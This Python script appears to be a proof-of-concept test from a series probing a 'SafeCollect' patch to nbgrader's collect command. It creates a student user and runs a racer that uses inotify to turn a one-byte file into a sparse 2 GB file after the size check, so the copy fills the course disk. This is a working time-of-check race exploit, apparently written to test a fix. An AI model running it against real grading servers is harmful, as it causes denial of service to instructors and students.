"""a24 (new code, SafeCollect; second version: the first grew the file after the size walk only, and ignore()'s
max_file_size check, made when copytree lists the folder, left it out, a24.first-try.out.txt): its size check walks the folder first (lstat sizes), then copytree copies. mallory
watches her inbound folder (inotify IN_OPEN), and after the size walk's open makes `big.bin` (1 byte when measured) a
sparse 2 GB file (`truncate`): copy2 writes every zero. The course folder is a 300 MB tmpfs, as in a07."""
from lib import *
A = "ps1_memory"
d = "/tmp/attack38-user-a24"
subprocess.run(["umount", d], capture_output=True); os.makedirs(d, exist_ok=True)
subprocess.run(["mount", "-t", "tmpfs", "-o", "size=300m,mode=0755", "tmpfs", d], check=True)
subprocess.run(["useradd", "-M", "-N", "-u", "2002", "-s", "/usr/sbin/nologin", "mallory"], check=True)
try:
    shutil.copy(f"{CLONE}/nbgrader_config.py", d); shutil.copytree(f"{CLONE}/source", f"{d}/source"); shutil.copytree(f"{CLONE}/release", f"{d}/release")
    X = "/tmp/attack38-user-a24-exchange"
    if os.path.exists(X): shutil.rmtree(X)
    inbound = f"{X}/distcourse/inbound"; os.makedirs(inbound)
    chown(d); chown(X); os.chmod(f"{X}/distcourse", 0o755); os.chmod(inbound, 0o733)
    tmp = "/tmp/attack38-user-a24-mallory.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
    p = f"{inbound}/mallory+{A}+2026-11-29 11:00:00.000000 UTC+r"
    racer = f'''
import os, shutil, ctypes, struct
p = {p!r}
os.mkdir(p); os.chmod(p, 0o755); shutil.copy({tmp!r}, p + "/{A}.ipynb")
for i in range(20): open(p + f"/pad{{i:02d}}.bin", "wb").write(os.urandom(2 << 20))
open(p + "/big.bin", "wb").write(b"x")
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init(); libc.inotify_add_watch(fd, p.encode(), 0x20)
print("racer ready", flush=True)
import time
n = 0
while n < 2:                           # the size walk's open, then copytree's (its ignore() measures each file at once)
    buf = os.read(fd, 4096); i = 0
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i); i += 16 + ln; n += 1
time.sleep(0.01)                       # past ignore()'s lstat of every name, before big.bin's copy
os.truncate(p + "/big.bin", 2 << 30)   # 2 GB, sparse
print("racer grew big.bin", flush=True)
'''
    r = subprocess.Popen(["setpriv", "--reuid", "2002", "--regid", "100", "--clear-groups", sys.executable, "-c", racer], stdout=subprocess.PIPE, text=True)
    print(r.stdout.readline().strip())
    t = time.time()
    c = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "collect", A,
                        f"--Exchange.root={X}"], cwd=d, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME="/tmp"), capture_output=True, text=True)
    print(r.stdout.readline().strip()); r.wait(10)
    print(f"collect rc {c.returncode} in {time.time()-t:.1f}s:", (c.stdout + c.stderr).strip().splitlines()[-1][:250])
    os.system(f"df -h {d} | tail -1; ls -la {d}/submitted/mallory/{A}/ 2>&1")
finally:
    subprocess.run(["userdel", "mallory"]); time.sleep(1); subprocess.run(["umount", d])
